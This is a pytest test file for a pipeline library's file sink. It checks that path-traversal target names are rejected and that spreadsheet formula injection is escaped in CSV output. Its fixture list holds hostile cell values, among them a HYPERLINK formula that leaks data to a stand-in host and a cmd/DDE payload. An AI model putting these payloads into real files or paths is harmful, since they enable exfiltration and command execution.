"""Texts of somebody else's in the names of targets, and in what spreadsheets open."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from airflow_paginated import PageNumber, PageRequest
from airflow_paginated.core.errors import ConfigurationError
from airflow_paginated.sinks import FileSink
from airflow_paginated.sinks.files.file_sink import local_or_fsspec
from tests.collect.running import Job, collect
from tests.servers import FaultServer, Reply, Request

ASTRAY = [
    "..",
    "../../etc",
    "../" * 8 + "tmp/x",
    "a/../../b",
    "a/..",
    "./b",
    ".",
    "/etc",
    "//etc",
    "a//b",
    "",
    "..\\..\\etc",
    "a\\b",
    "a\nb",
    "a\0b",
    "\x1b[2Jb",
]
SAFE = [
    "manual__2026-01-01T00:00:00+00:00",
    "..a",
    "a..b",
    "...",
    "~",
    "C:",
    "%2e%2e%2fetc",
    "a b",
    "\u2025",
    "$HOME",
    "*",
]


@pytest.mark.fault("S9")
@pytest.mark.parametrize("template", ["{{ x }}/", "at-{{ x }}/", "{{ x }}/rows.jsonl"])
def test_names_that_lead_astray(template: str, tmp_path: Path, record_property: Callable[[str, object], None]) -> None:
    base = tmp_path / "lake"
    for name in ASTRAY:
        # After a prefix, these are the ends of a name.
        if template.startswith("at-") and name in ("", ".", "..", "./b", "/etc"):
            continue
        for part in ("path", "staging"):
            sink = (
                FileSink(f"{base}/{template}") if part == "path" else FileSink(f"{base}/", staging=f"{base}/{template}")
            )
            setattr(sink, part, f"{base}/{template}".replace("{{ x }}", name))
            with pytest.raises(ConfigurationError, match=f"sink: {part} .* leaves its base|is empty|never rendered"):
                sink.resolved(local_or_fsspec)
    assert list(tmp_path.iterdir()) == []
    record_property("runs", 2 * len(ASTRAY))


@pytest.mark.fault("S9")
def test_names_that_stay(tmp_path: Path) -> None:
    base = tmp_path / "lake"
    for name in SAFE:
        sink = FileSink(f"{base}/{{{{ x }}}}/")
        sink.path = f"{base}/{name}/"
        target = sink.resolved(local_or_fsspec)
        assert str(target.place.root).rstrip("/") == f"{base}/{name}"  # type: ignore[attr-defined]


CELLS = [
    "=1+1",
    '=HYPERLINK("http://evil.test/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "plain",
    "a=1",
]


def sheet(request: Request) -> Reply:
    """Answer with rows of texts that spreadsheets evaluate."""
    rows = [{"id": number, "delta": -number, "text": text} for number, text in enumerate(CELLS)]
    return Reply(json.dumps({"data": rows, "meta": {"total": len(rows)}}).encode())


@pytest.mark.fault("S9")
def test_formulas_in_cells(tmp_path: Path) -> None:
    found: dict[str, list[dict[str, str]]] = {}
    with FaultServer(sheet) as server:
        for formulas in ("keep", "escape"):
            path = tmp_path / formulas / "sheet.csv"
            job = Job(
                url=server.url,
                path=str(path),
                pagination=PageNumber(total_path="meta.total"),
                request=PageRequest("/rows"),
                sink={"csv_formulas": formulas},
            )
            collect(job)
            with path.open(newline="") as file:
                found[formulas] = list(csv.DictReader(file))
    assert [row["text"] for row in found["keep"]] == CELLS
    assert [row["text"] for row in found["escape"]] == [f"'{each}" for each in CELLS[:6]] + CELLS[6:]
    # A number is none, whatever its sign.
    assert [row["delta"] for row in found["escape"]] == [str(-number) for number in range(len(CELLS))]
